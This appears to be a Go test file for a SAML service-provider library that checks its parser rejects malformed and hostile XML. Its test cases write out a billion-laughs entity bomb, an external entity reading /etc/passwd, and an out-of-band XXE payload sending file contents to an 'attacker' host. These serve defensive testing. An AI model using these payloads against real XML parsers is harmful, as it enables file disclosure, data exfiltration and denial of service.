package samlsp

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// goodXML returns a valid signed response as XML text.
func goodXML(t testing.TB) string {
	t.Helper()
	return string(mustDecode(t, build(t, goodResponse(), idpKey(t))))
}

// withoutDecl strips the XML declaration so a DOCTYPE can go first.
func withoutDecl(x string) string {
	if strings.HasPrefix(x, "<?xml") {
		return x[strings.Index(x, "?>")+2:]
	}
	return x
}

// TestParserDefences covers security.md items 25–29, 31 and 65: inputs that
// must be refused as malformed before any signature work.
func TestParserDefences(t *testing.T) {
	t.Parallel()
	good := goodXML(t)
	body := withoutDecl(good)
	deep := strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000)
	cases := []struct {
		name     string
		b64      string
		settings func(s *Settings)
	}{
		{name: "65 empty", b64: ""},
		{name: "65 bad base64", b64: "PHNhbWxwOlJlc3BvbnNl!!!"},
		{name: "65 base64 of nothing useful", b64: b64("hello")},
		{name: "65 invalid UTF-8", b64: b64(strings.Replace(good, "Ada", "A\xffa", 1))},
		{name: "65 not xml", b64: b64("SAMLResponse=abc&RelayState=x")},
		{name: "31 over MaxResponseBytes", b64: b64(good),
			settings: func(s *Settings) { s.MaxResponseBytes = 1024 }},
		{name: "31 over default limit", b64: strings.Repeat("A", DefaultMaxResponseBytes+4)},
		{name: "31 deep nesting", b64: b64(strings.Replace(good, "</samlp:Response>", "<samlp:Extensions>"+deep+"</samlp:Extensions></samlp:Response>", 1))},
		{name: "31 too many tokens", b64: b64(strings.Replace(good, "</samlp:Response>", "<samlp:Extensions>"+strings.Repeat("<a/>", 20000)+"</samlp:Extensions></samlp:Response>", 1)),
			settings: func(s *Settings) { s.MaxResponseBytes = MaxMaxResponseBytes }},
		{name: "31 too many attributes", b64: b64(strings.Replace(good, "<samlp:Status>", "<samlp:Status"+manyNS(200)+">", 1))},
		{name: "27 two roots", b64: b64(good + body)},
		{name: "27 trailing element", b64: b64(good + "<x/>")},
		{name: "27 trailing text", b64: b64(good + "garbage")},
		{name: "27 leading text", b64: b64("garbage" + body)},
		{name: "27 unclosed root", b64: b64(strings.Replace(good, "</samlp:Response>", "", 1))},
		{name: "28 billion laughs", b64: b64(billionLaughs + body)},
		{name: "28 internal entity used in NameID", b64: b64(`<!DOCTYPE r [<!ENTITY e "x">]>` + strings.Replace(body, testNameID, "&e;", 1))},
		{name: "29 external entity", b64: b64(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + strings.Replace(body, testNameID, "&x;", 1))},
		{name: "25 directive with comment", b64: b64(`<! x<!-- -->y>` + body)},
		{name: "25 double colon name", b64: b64(strings.Replace(good, "<samlp:Status>", "<x::Root/><samlp:Status>", 1))},
		{name: "processing instruction inside", b64: b64(strings.Replace(good, "<samlp:Status>", "<?evil x?><samlp:Status>", 1))},
		{name: "encoding other than UTF-8", b64: b64(`<?xml version="1.0" encoding="ISO-8859-1"?>` + body)},
		{name: "root is not a Response", b64: b64(`<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"/>`)},
		{name: "root Response in a foreign namespace", b64: b64(strings.ReplaceAll(good, "urn:oasis:names:tc:SAML:2.0:protocol", "urn:evil"))},
		{name: "duplicate attribute", b64: b64(strings.Replace(good, "<samlp:Response ", `<samlp:Response Version="2.0" `, 1))},
		{name: "unbound prefix", b64: b64(strings.Replace(good, "<samlp:Status>", "<evil:Status/><samlp:Status>", 1))},
		{name: "mismatched end tag", b64: b64(strings.Replace(good, "</samlp:Status>", "</samlp:Statux>", 1))},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := testSettings(t)
			if tc.settings != nil {
				tc.settings(s)
			}
			expectReason(t, s, tc.b64, solicited, testNow, ReasonMalformed)
		})
	}
}

func manyNS(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` xmlns:p%d="urn:x:%d"`, i, i)
	}
	return b.String()
}

const billionLaughs = `<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`

// Item 29: an external parameter entity pointing at a live server is never
// fetched.
func TestXXENoFetch(t *testing.T) {
	t.Parallel()
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		_, _ = io.WriteString(w, `<!ENTITY % all "<!ENTITY send SYSTEM 'http://attacker/?%file;'>">`)
	}))
	defer srv.Close()
	body := withoutDecl(goodXML(t))
	docs := []string{
		`<!DOCTYPE r [<!ENTITY % sp SYSTEM "` + srv.URL + `/x.dtd"> %sp; %all;]>` + body,
		`<!DOCTYPE samlp:Response SYSTEM "` + srv.URL + `/schema.dtd">` + body,
		`<!DOCTYPE r [<!ENTITY ext SYSTEM "` + srv.URL + `/name">]>` + strings.Replace(body, testNameID, "&ext;", 1),
	}
	for i, d := range docs {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			expectReason(t, testSettings(t), b64(d), solicited, testNow, ReasonMalformed)
		})
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the server was fetched %d times", n)
	}
}

// Base64 wrapped at 76 columns, as some IdPs post it, is accepted.
func TestWrappedBase64Accepted(t *testing.T) {
	t.Parallel()
	raw := mustDecode(t, build(t, goodResponse(), idpKey(t)))
	enc := base64.StdEncoding.EncodeToString(raw)
	var b bytes.Buffer
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc)
	expectReason(t, testSettings(t), b.String(), solicited, testNow, "")
}

// The user-facing text never carries library or document content.
func TestErrorTextIsFixed(t *testing.T) {
	t.Parallel()
	for _, r := range []Reason{ReasonConfig, ReasonMalformed, ReasonStatus, ReasonUnsignedAssertion, ReasonBadSignature,
		ReasonBadCertificate, ReasonWeakAlgorithm, ReasonBadIssuer, ReasonBadAudience, ReasonBadDestination,
		ReasonBadRecipient, ReasonBadInResponseTo, ReasonExpired, ReasonNotYetValid, ReasonMultipleAssertions,
		ReasonEncryptedUnsigned, ReasonDecryptionFailed, ReasonBadSubject, ReasonBadVersion} {
		msg := (&Error{Reason: r, Err: fmt.Errorf("secret library detail")}).Error()
		if !strings.HasPrefix(msg, "samlsp: ") || strings.Contains(msg, "secret") || msg == "samlsp: saml response refused" {
			t.Errorf("%s: message %q", r, msg)
		}
	}
}
